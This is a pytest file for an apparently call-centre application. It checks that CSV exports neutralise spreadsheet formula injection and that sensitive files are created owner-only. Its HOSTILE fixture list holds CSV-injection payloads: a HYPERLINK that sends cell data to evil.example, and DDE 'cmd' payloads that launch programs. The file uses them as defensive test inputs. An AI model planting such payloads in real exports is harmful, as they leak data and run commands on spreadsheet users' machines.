"""CSV cells cannot become formulas, and files with personal data are created for their owner only."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from cli import main
from fsapp.acd.snapshot_file import SnapshotFile
from fsapp.controller import Controller
from fsapp.csvsafe import FORMULA_STARTS, csv_dict_writer, csv_writer, safe_cell
from fsapp.dialer.report import CampaignReport
from fsapp.reports.export import csv_text
from fsapp.reports.tables import Table
from fsapp.sim import CallerScript, SimulatedSwitch
from fsapp.store import open_store

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_inert(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS) or safe_cell(cell) == cell


@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()), max_size=8))
def test_every_written_cell_is_inert_and_nothing_is_lost(row: list[object]) -> None:
    buffer = io.StringIO()
    csv_writer(buffer).writerow(row)
    written = _cells(buffer.getvalue()) if row else []
    assert all(_is_inert(cell) for original, cell in zip(row, written) if isinstance(original, str))
    for original, cell in zip(row, written):
        expected = "" if original is None else str(original)
        assert cell == expected or (cell == "'" + expected and expected.startswith(FORMULA_STARTS))


def test_plain_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in ["-12", "+4790000302", "3.5", -4]] == ["-12", "+4790000302", "3.5", -4]
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]


def test_reports_campaign_reports_and_dict_rows_go_through_the_seam() -> None:
    table = Table("agents", ["agent", "answered"], [[HOSTILE[0], 3], ["ola", None]], "answered")
    assert _cells(csv_text(table))[2] == "'" + HOSTILE[0]
    report = CampaignReport("c", "done", {"total": 1}, {HOSTILE[1]: 1}, {})
    assert "'" + HOSTILE[1] in _cells(report.to_csv())
    buffer = io.StringIO()
    writer = csv_dict_writer(buffer, ["caller"])
    writer.writeheader()
    writer.writerow({"caller": HOSTILE[4]})
    assert _cells(buffer.getvalue()) == ["caller", "'" + HOSTILE[4]]


def test_recordings_export_neutralizes_a_hostile_caller_id(sim: SimulatedSwitch, controller: Controller,
                                                           tmp_path: Path) -> None:
    sim.add_endpoint("1001", behaviour="answer", answer_after=0.5, hangup_after=2.0)
    controller.acd.agent_login("ingrid")
    caller = "=HYPERLINK(\"http://evil.example\")"
    uuid = sim.place_call(caller=caller, script=CallerScript(keys=[(3.0, "0")], hangup_after=600.0))
    controller.wait_finished(uuid, 30.0)
    out = tmp_path / "export"
    assert controller.api_server is not None
    result = CliRunner().invoke(main, ["recordings", "export", "--url", controller.api_server.url, "--token",
                                       "tok-supervisor", "--out", str(out), "--agent", "ingrid"])
    assert result.exit_code == 0, result.output
    assert json.loads((out / "metadata.json").read_text())[0]["caller"] == caller
    rows = list(csv.DictReader((out / "metadata.csv").open(encoding="utf-8")))
    assert rows[0]["caller"] == "'" + caller


@pytest.fixture
def open_umask() -> Iterator[None]:
    previous = os.umask(0o022)   # the default that made these files 0644
    yield
    os.umask(previous)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_sqlite_database_and_its_journals_are_0600(tmp_path: Path, open_umask: None) -> None:
    store = open_store(f"sqlite:///{tmp_path / 'db' / 'fsapp.db'}")
    store.add_category("roads", "Roads")
    files = sorted((tmp_path / "db").glob("fsapp.db*"))
    assert {p.name for p in files} >= {"fsapp.db", "fsapp.db-wal", "fsapp.db-shm"}
    assert {p.name: _mode(p) for p in files} == {p.name: 0o600 for p in files}
    store.close()


def test_an_existing_world_readable_database_loses_the_world_bits(tmp_path: Path, open_umask: None) -> None:
    path = tmp_path / "old.db"
    open_store(f"sqlite:///{path}").close()
    path.chmod(0o644)
    open_store(f"sqlite:///{path}").close()
    assert _mode(path) == 0o640


def test_the_acd_state_file_is_0600(tmp_path: Path, open_umask: None) -> None:
    snapshot = SnapshotFile(tmp_path / "state" / "acd.json")
    snapshot.save({"members": [{"caller": "+4790000001"}]})
    assert _mode(snapshot.path) == 0o600
    assert snapshot.load() == {"members": [{"caller": "+4790000001"}]}


def test_the_systemd_unit_sets_a_umask() -> None:
    assert "UMask=0027" in (ROOT / "deploy" / "fsapp.service").read_text().splitlines()
